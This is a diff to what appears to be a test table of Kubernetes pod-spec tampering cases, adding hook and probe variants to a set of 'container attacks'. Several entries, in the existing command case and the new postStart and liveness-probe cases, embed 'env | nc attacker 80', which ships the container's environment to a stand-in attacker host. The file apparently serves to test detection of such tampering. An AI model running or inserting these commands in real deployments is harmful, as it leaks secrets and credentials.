@@ -210,6 +210,13 @@ CONTAINER_ATTACKS = {
         image=pod["containers"][0]["image"].split("@")[0].rsplit(":", 1)[0] + ":latest"),
     "extra arguments": lambda pod, other: pod["containers"][0].update(args=["--read-only=false"]),
     "a command": lambda pod, other: pod["containers"][0].update(command=["/bin/sh", "-c", "env | nc attacker 80"]),
+    "a postStart hook": lambda pod, other: pod["containers"][0].update(
+        lifecycle={"postStart": {"exec": {"command": ["/bin/sh", "-c", "env | nc attacker 80"]}}}),
+    "an exec liveness probe": lambda pod, other: pod["containers"][0].update(
+        livenessProbe={"exec": {"command": ["/bin/sh", "-c", "env | nc attacker 80"]}}),
+    "a readiness probe calling another host": lambda pod, other: pod["containers"][0].update(
+        readinessProbe={"httpGet": {"host": "postgres", "port": 5432, "path": "/"}}),
+    "a startup probe": lambda pod, other: pod["containers"][0].update(startupProbe={"tcpSocket": {"port": 8080}}),
     "a sidecar": lambda pod, other: pod["containers"].append({"name": "helper", "image": other}),
     "the container renamed": lambda pod, other: pod["containers"][0].update(name="server"),
     "an init container": lambda pod, other: pod.setdefault("initContainers", []).append(
